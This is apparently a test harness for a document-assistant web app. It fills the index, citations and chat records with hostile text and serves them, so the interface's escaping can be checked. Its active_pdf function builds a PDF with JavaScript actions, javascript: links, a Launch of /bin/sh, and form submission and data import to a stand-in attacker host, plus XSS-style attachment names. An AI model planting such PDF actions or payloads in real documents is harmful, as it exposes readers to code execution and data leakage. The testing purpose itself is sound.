"""A shelf on which everything is hostile: names, titles, manifest fields, passages, answers, records.

`python tests/hostile_shelf.py PORT` serves it behind a scripted assistant that writes what no check
would let through, so that the pages have to stand on their own. Each text carries its number as
`z017z`: what is found on a page is known to have come there.
"""

import hashlib
import html
import io
import sys
import tempfile
import time
from collections.abc import Collection, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, cast

import scripted
from assistant.access import local_principal
from assistant.assistant import Assistant
from assistant.config import Settings
from assistant.records import Conversations, Database, FeedbackBook, exchange_of, feedback, new_id
from assistant.types import Answer, Citation, Column, Question, Status, Trace
from hostile import EVIL, PAYLOADS
from index.reading import read
from index.types import Document, Heading, Page

SUFFIXES = (".md", ".html", ".docx", ".txt", ".pdf")
FIRST = "Norway pays for the programme. "
TEXTS = [f"{payload} z{number:03d}z" for number, payload in enumerate(PAYLOADS)]
ACTIVE = "active"  # the id of the PDF that acts
QUESTION_CHARS = 1900
STREAMING_S = 2.0  # the draft stands so long


def name_of(number: int) -> str:
    """A file's name: the text as far as a file system takes it."""
    text = TEXTS[number].replace("/", "\u2215").replace("\x00", "")
    return text.encode()[-180:].decode("utf-8", "ignore") + SUFFIXES[number % len(SUFFIXES)]


def file_of(number: int) -> bytes:
    """A file of its kind that holds the text, and below it once more as markup where it can."""
    # With a null byte in it no reader takes a text at all.
    text, kind = TEXTS[number].replace("\x00", ""), SUFFIXES[number % len(SUFFIXES)]
    inert = "".join(sign for sign in text if sign.isprintable())
    if kind == ".html":
        return f"<h1>{html.escape(text)}</h1><p>{FIRST}{html.escape(text)}</p><p>{text}</p>".encode()
    if kind == ".docx":
        return _word(inert)
    if kind == ".pdf":
        return _print(inert)
    return f"# {text}\n\n{FIRST}{text}\n".encode()


def _word(text: str) -> bytes:
    import docx

    paper, file = docx.Document(), io.BytesIO()
    paper.add_heading(text)
    paper.add_paragraph(FIRST + text)
    paper.save(file)
    return file.getvalue()


def _print(text: str) -> bytes:
    from reportlab.pdfgen.canvas import Canvas  # type: ignore[import-untyped]

    file = io.BytesIO()
    canvas = Canvas(file, invariant=1)
    latin = text.encode("latin-1", "replace").decode("latin-1")
    canvas.setTitle(latin)
    canvas.bookmarkPage("x")
    canvas.addOutlineEntry(latin, "x")
    canvas.setFont("Helvetica", 9)
    for row, start in enumerate(range(0, len(FIRST + latin), 100)):
        canvas.drawString(40, 780 - 12 * row, (FIRST + latin)[start : start + 100])
    canvas.save()
    return file.getvalue()


def active_pdf() -> bytes:
    """A PDF with everything that acts: scripts, links, forms, programs to be started, files within."""
    from pypdf import PdfReader, PdfWriter
    from pypdf.generic import (
        ArrayObject,
        BooleanObject,
        DecodedStreamObject,
        DictionaryObject,
        NameObject,
        NumberObject,
        TextStringObject,
    )

    def made(**entries: Any) -> DictionaryObject:
        return DictionaryObject({NameObject(f"/{key}"): value for key, value in entries.items()})

    def action(kind: str, **entries: Any) -> DictionaryObject:
        return made(S=NameObject(f"/{kind}"), **entries)

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(_print(TEXTS[0]))))
    script = TextStringObject(f"app.alert(1);app.launchURL('http://{EVIL}/');this.submitForm('//{EVIL}')")
    run = action("JavaScript", JS=script)
    address = TextStringObject(f"http://{EVIL}/pdf")
    acts = [
        run,
        action("URI", URI=TextStringObject("javascript:alert(1)")),
        action("URI", URI=address),
        action("Launch", F=TextStringObject("/bin/sh")),
        action("GoToR", F=address, D=TextStringObject("x")),
        action("SubmitForm", F=made(FS=NameObject("/URL"), F=address)),
        action("ImportData", F=address),
    ]
    page = writer.pages[0]
    notes = ArrayObject()
    for number, act in enumerate(acts):
        place = ArrayObject(NumberObject(n) for n in (40, 600 - 30 * number, 400, 620 - 30 * number))
        shown = {"A": act, "Rect": place, "Contents": TextStringObject(TEXTS[14])}
        notes.append(writer._add_object(made(Subtype=NameObject("/Link"), **shown)))
        field = {"FT": NameObject("/Tx"), "T": TextStringObject(TEXTS[14]), "V": TextStringObject(TEXTS[0])}
        extra = made(E=run, X=run, D=run, U=run, Fo=run, Bl=run, PO=run, PV=run, K=run, F=run, V=run, C=run)
        notes.append(writer._add_object(made(Subtype=NameObject("/Widget"), AA=extra, Rect=place, **field)))
    page[NameObject("/Annots")] = notes
    page[NameObject("/AA")] = made(O=run, C=run)
    root = writer._root_object
    form = DecodedStreamObject()
    form.set_data(f"<xdp><script>app.alert(1)</script><img src='//{EVIL}/x'/></xdp>".encode())
    fields = {"XFA": writer._add_object(form), "Fields": notes, "NeedAppearances": BooleanObject(True)}
    root[NameObject("/AcroForm")] = made(**fields)
    root[NameObject("/OpenAction")] = run
    root[NameObject("/AA")] = made(WC=run, WS=run, DS=run, WP=run, DP=run)
    writer.add_outline_item(title=TEXTS[0], page_number=0)
    writer.add_attachment("<img src=x onerror=alert(1)>.html", b"<script>alert(1)</script>")
    file = io.BytesIO()
    writer.write(file)
    return file.getvalue()


class HostileIndex(scripted.ScriptedIndex):
    """An index over the files above, each read by its real reader."""

    def __init__(self, corpus: Path) -> None:
        self._documents: list[Document] = []
        self._pages: dict[str, list[Page]] = {}
        for number, text in enumerate(TEXTS):
            self._add(corpus, f"d{number:03d}", name_of(number), file_of(number), text)
        self._add(corpus, ACTIVE, "active.pdf", active_pdf(), "A paper that acts")

    def _add(self, corpus: Path, identifier: str, name: str, data: bytes, text: str) -> None:
        (corpus / name).write_bytes(data)
        pages = read(corpus / name, identifier).pages
        headed = [replace(page, headings=(*page.headings, Heading(1, text, 0)), label=text) for page in pages]
        self._pages[identifier] = headed
        total, one = hashlib.sha256(data).hexdigest(), (text,)
        words = {"date": text, "publisher": text, "kind": text, "language": text, "url": text}
        self._documents.append(
            Document(identifier, name, text, total, programmes=one, regions=one, **words)  # type: ignore[arg-type]
        )

    def documents(self, groups: Collection[str]) -> list[Document]:
        return list(self._documents)

    def pages(self, document_id: str, groups: Collection[str]) -> list[Page]:
        return self._pages.get(document_id, [])

    def successors(self, document_id: str, groups: Collection[str]) -> list[Document]:
        return self._documents[:3] if document_id.endswith("0") else []


class HostileAssistant(scripted.ScriptedAssistant):
    """Answers with all hostile texts at once, each with a citation of the paper that has it too."""

    def __init__(self, corpus: Path) -> None:
        super().__init__()
        self.index: Any = HostileIndex(corpus)

    def stream(self, question: Question) -> Iterator[str | Answer]:
        answer = self._answer(question, question.text)
        for start in range(0, len(answer.text), 997):
            yield answer.text[start : start + 997]
        yield ""  # as an assistant does whose model is silent
        time.sleep(STREAMING_S if "slowly" in question.text else 0)
        yield answer

    def _answer(self, question: Question, text: str) -> Answer:
        lines = [f"{line} [{number}] [999]" for number, line in enumerate(TEXTS, 1)]
        said = "\n".join(lines)
        cited = tuple(self._citation(number) for number in range(len(TEXTS)))
        trace = Trace(TEXTS[14], TEXTS[14], confidence=0.7, model=TEXTS[14])
        hits = tuple(
            scripted.hit(document, self.index.pages(document.id, ()), 1)
            for document in self.index.documents(())[:6]
        )
        if "nothing" in text:
            return Answer("", "not_in_documents", (), hits, trace, missing=tuple(TEXTS[:6]))
        half = len("\n".join(lines[:60]))
        columns = (Column(TEXTS[14], 0, half), Column(TEXTS[0], half, len(said)))
        status: Status = "partial" if "half" in text else "answered"
        return Answer(
            said, status, cited, hits, trace, tuple(TEXTS), ((0, 9), (20, 40)), tuple(TEXTS[:6]),
            columns=columns if "compare" in text else (),
        )  # fmt: skip

    def _citation(self, number: int) -> Citation:
        document = self.index.documents(())[number]
        page = self.index.pages(document.id, ())[0]
        place = (document.id, document.path, document.title, document.date, 1, page.label)
        return Citation(number + 1, *place, page.text, 0, len(page.text), document.url)


def keep(database: Database, assistant: HostileAssistant) -> str:
    """Put hostile questions, titles and comments into the records; give the id of a conversation that
    holds a hostile answer with a comment."""
    conversations, me = Conversations(database), local_principal()
    for text in reversed(TEXTS):
        conversations.begin(me.id, text)
    place = new_id()
    long = [TEXTS[start : start + 12] for start in range(0, len(TEXTS), 12)]
    for number, texts in enumerate(long):
        question = Question(" ".join(texts)[:QUESTION_CHARS], me, search_text=" ".join(texts[:3])[:400])
        answer = assistant._answer(question, "nothing" if number else "half")
        exchange = exchange_of(new_id(), question, answer, assistant.index.documents(()))
        conversations.append(me.id, place, exchange, begin=True)
    comment = " ".join(TEXTS)[:900]
    FeedbackBook(database).add(feedback(exchange.id, question, answer, "wrong_evidence", comment))
    return place


def main(port: int) -> None:
    """Serve the shelf until stopped."""
    import uvicorn

    from assistant.web import history
    from assistant.web.server import create_app

    history.LISTED = 2 * len(TEXTS)  # all of them stand in the list

    with tempfile.TemporaryDirectory() as folder:
        corpus = Path(folder) / "corpus"
        corpus.mkdir()
        settings = Settings.from_env(corpus=corpus)
        assistant = HostileAssistant(corpus)
        app = create_app(settings, cast(Assistant, assistant))
        database = Database(settings.records_url.get_secret_value())
        Path(settings.records_url.get_secret_value().removeprefix("sqlite:///")).with_name("place").write_text(
            keep(database, assistant)
        )
        uvicorn.run(app, host="127.0.0.1", port=port, log_level="error", timeout_graceful_shutdown=1)


if __name__ == "__main__":
    main(int(sys.argv[1]))
